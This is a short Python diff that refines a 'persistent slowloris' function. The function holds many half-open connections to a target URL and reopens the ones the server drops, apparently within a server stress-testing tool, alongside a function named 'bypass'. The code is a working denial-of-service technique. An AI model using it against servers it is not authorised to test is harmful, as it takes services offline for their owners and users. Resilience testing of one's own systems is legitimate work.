@@ -155,20 +155,22 @@ def bypass(url: str, count: int, sources: list[str], codes: Counter[str], bodies
 
 
 def hold_half_open(url: str, count: int, sources: list[str], seconds: float, codes: Counter[str]) -> None:
-    """Keep ``count`` half-open connections for ``seconds``, opening a new one for each the server
-    closes (a persistent slowloris)."""
+    """Keep ``count`` half-open connections for ``seconds``, each second opening a new one for
+    each the server closed (a persistent slowloris)."""
     held = half_open(url, count, sources)
     codes["opened"] += len(held)
     end = time.monotonic() + seconds
     try:
         while time.monotonic() < end:
             time.sleep(1.0)
-            alive = still_open(held)
-            codes["closed by the server"] += len(held) - alive
+            alive = [s for s in held if still_open([s])]
             for s in held:
-                s.close()
-            held = half_open(url, count, sources)
-            codes["opened"] += len(held)
+                if s not in alive:
+                    s.close()
+            codes["closed by the server"] += len(held) - len(alive)
+            fresh = half_open(url, count - len(alive), sources)
+            codes["opened"] += len(fresh)
+            held = alive + fresh
     finally:
         for s in held:
             s.close()
